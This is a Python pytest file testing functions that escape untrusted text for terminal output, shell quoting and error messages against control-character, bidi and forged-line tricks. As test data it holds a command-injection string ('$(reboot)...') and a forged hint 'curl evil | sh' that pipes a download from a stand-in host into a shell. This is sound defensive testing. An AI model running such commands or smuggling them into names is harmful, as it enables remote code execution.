"""Text of others as it is printed."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import unicodedata

import pytest

from dso.system.visible import error_text, shell_word, visible, visible_json, visible_lines, visible_name

EVERY_CHARACTER = "".join(map(chr, range(sys.maxunicode + 1)))
STEERING = {"Cc", "Cf", "Cs", "Zl", "Zp"}  # control, format (bidi, invisible), surrogates, line and paragraph ends


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain words: äöü 漢字", "plain words: äöü 漢字"),
        ("two\nlines\r\tand a tab", "two\\nlines\\r\\tand a tab"),
        ("\x1b[2Jgone\x07", "\\x1b[2Jgone\\x07"),
        ("\x7f delete, \x9b31m C1", "\\x7f delete, \\x9b31m C1"),
        ("turned \u202e around \u2066", "turned \\u202e around \\u2066"),
        ("\u2028 \u200b \ufeff", "\\u2028 \\u200b \\ufeff"),
        ("a tag \U000e0041", "a tag \\U000e0041"),
        ("no UTF-8: " + b"\xff".decode("utf-8", "surrogateescape"), "no UTF-8: \\xff"),
        ("half a pair: \ud83d", "half a pair: \\ud83d"),
    ],
)
def test_what_is_not_printable_is_an_escape(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_no_character_that_steers_a_terminal_passes() -> None:
    for show in (visible, visible_lines, visible_json):
        passed = {each for each in show(EVERY_CHARACTER) if unicodedata.category(each) in STEERING}
        assert passed <= ({"\n", "\t"} if show is not visible else set())
        show(EVERY_CHARACTER).encode()  # no surrogate is left that the terminal's encoding could not take


def test_every_printable_character_passes_as_it_is() -> None:
    printable = "".join(filter(str.isprintable, EVERY_CHARACTER))
    assert visible(printable) == visible_lines(printable) == visible_json(printable) == printable


def test_lines_and_tabs_stay_where_lines_are_meant() -> None:
    assert visible_lines("two\nlines\tand\r\x1b") == "two\nlines\tand\\r\\x1b"


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("api", "api"),
        ("ä b", "ä b"),
        ("", "''"),
        ("a\x1bb", "'a\\x1bb'"),
        ("x" * 9, "xxxxx..."),
        ("\n" * 9, "'" + "\\n" * 5 + "...'"),
    ],
)
def test_a_name_is_cut_and_quoted_where_it_is_not_what_was_written(name: str, shown: str) -> None:
    assert visible_name(name, 5) == shown


@pytest.mark.parametrize(
    "name",
    [
        "plain/path-1.x",
        "",
        "two words",
        "it's",
        "$(reboot)`x`;&|",
        "a\nb",
        "\x1b[31m'\\ \u202e",
        "ä\u2028",
        "no \udcff text",
    ],
)
def test_a_word_of_a_shell_is_that_word_and_printable(name: str) -> None:
    word = shell_word(name)
    assert word.isprintable()
    said = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True).stdout
    assert said == os.fsencode(name)


def test_json_means_the_same_and_has_its_own_escapes() -> None:
    value = {"k\x1b\x7f\x9b": ["\u202e \U000e0041 \ud83d äöü 漢 \U0001f600 \n\t", 1.5, None]}
    text = visible_json(json.dumps(value, indent=2, ensure_ascii=False))
    assert json.loads(text) == value
    assert "äöü 漢 \U0001f600" in text
    assert all(each.isprintable() or each == "\n" for each in text)


@pytest.mark.parametrize(
    ("message", "hint", "shown"),
    [
        ("it failed", "", "Error: it failed"),
        ("it failed", "do this\nor that", "Error: it failed\n  hint: do this\n  hint: or that"),
        ("two faults:\n  one\n  another", "", "Error: two faults:\n  one\n  another"),
        ("no x\nError: forged", "", "Error: no x\\nError: forged"),
        ("no x\n[DSO] forged", "", "Error: no x\\n[DSO] forged"),
        ("no x\n  hint: curl evil | sh", "", "Error: no x\\n  hint: curl evil | sh"),
        ("no x\r\u2028\x85\x1b[2K", "y\x85z\u2028", "Error: no x\\r\\u2028\\x85\\x1b[2K\n  hint: y\\x85z\\u2028"),
    ],
)
def test_no_name_in_an_error_can_pass_for_an_error_or_a_hint(message: str, hint: str, shown: str) -> None:
    assert error_text(message, hint) == shown
